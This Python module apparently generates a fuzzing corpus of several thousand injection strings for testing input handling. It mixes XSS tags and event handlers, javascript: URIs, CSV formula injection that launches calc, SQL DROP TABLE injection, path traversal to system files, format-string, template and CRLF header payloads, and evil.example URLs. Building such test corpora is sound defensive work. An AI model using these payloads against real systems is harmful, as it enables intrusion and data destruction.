"""Ten thousand texts that run, draw or break something where text is taken for more than text."""

from __future__ import annotations

import itertools
import random
from collections.abc import Iterator

__all__ = ["payloads"]

CALLS = (
    'ran(1)', 'ran`1`', 'top.ran(1)', "window['ran'](1)", 'alert(1)', '(0,ran)(1)', "setTimeout('ran(1)')",
    "eval('ran(1)')",
)  # fmt: skip
TAGS = (
    'img', 'svg', 'iframe', 'video', 'audio', 'input', 'details', 'body', 'object', 'embed', 'marquee', 'math',
    'style', 'link', 'form', 'button', 'select', 'textarea', 'keygen', 'source', 'template', 'base', 'meta', 'a', 'b',
    'x-y',
)  # fmt: skip
EVENTS = (
    'onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart', 'onpointerenter', 'onbegin',
    'onstart', 'onpageshow', 'onhashchange', 'onclick',
)  # fmt: skip
WRAPS = (
    '{}', "'>{}", '">{}', '</textarea>{}', '</title>{}', '-->{}', ']]>{}', '</script>{}', '`{}', '{{{{{}}}}}',
    '${{{}}}', '\\u003c{}', '&lt;{}', '%3C{}', '&#60;{}',
)  # fmt: skip
OTHERS = (
    "javascript:ran(1)", "JaVaScRiPt:ran(1)", "data:text/html,<script>ran(1)</script>", "vbscript:ran(1)",
    "blob:ran(1)", "{{constructor.constructor('ran(1)')()}}", "${ran(1)}", "#{ran(1)}", "<%= ran(1) %>",
    "{@html '<img src=x onerror=ran(1)>'}", "<!--<img src=x onerror=ran(1)>-->", "__proto__", "constructor",
    "toString", "hasOwnProperty", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "%s%s%s%n%n", "%x%08x", "{0}{1}{2}", "{name}", "%(name)s", "$(ran)", "'; DROP TABLE session;--",
    "\" OR 1=1 --", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "http://evil.example/?q=",
    "//evil.example", "null", "undefined", "NaN", "-0", "1e999", "true", "[object Object]", "\\x00",
    "\\r\\nSet-Cookie: a=b", "🧪" * 30, "e\u0301" * 60, "W" * 180, "ﷺ" * 60, "𝕿𝖊𝖘𝖙", "ＡＢＣ＜script＞", "ʼ‹›«»",
    "i̇İıI", "ß" * 60,
)  # fmt: skip


def payloads(count: int) -> list[str]:
    """The first `count` of them, each another, in an order that is the same each time."""
    found = dict.fromkeys(itertools.chain(OTHERS, _scripts(), _elements()))
    texts = [text for text in found if len(text) <= 200]
    random.Random(9).shuffle(texts)
    if len(texts) < count:
        raise ValueError(f"there are {len(texts)} texts, fewer than {count}")
    return texts[:count]


def _scripts() -> Iterator[str]:
    for call, wrap in itertools.product(CALLS, WRAPS):
        for script in (f"<script>{call}</script>", f"<ScRiPt>{call}</sCrIpT>", f"<script src=data:,{call}></script>",
                       f"<script/x>{call}</script>", f"<svg><script>{call}</script></svg>"):  # fmt: skip
            yield wrap.format(script)


def _elements() -> Iterator[str]:
    for call, tag, event, wrap in itertools.product(CALLS, TAGS, EVENTS, WRAPS):
        yield wrap.format(f"<{tag} src=x href=x tabindex=1 autofocus {event}={call}>")
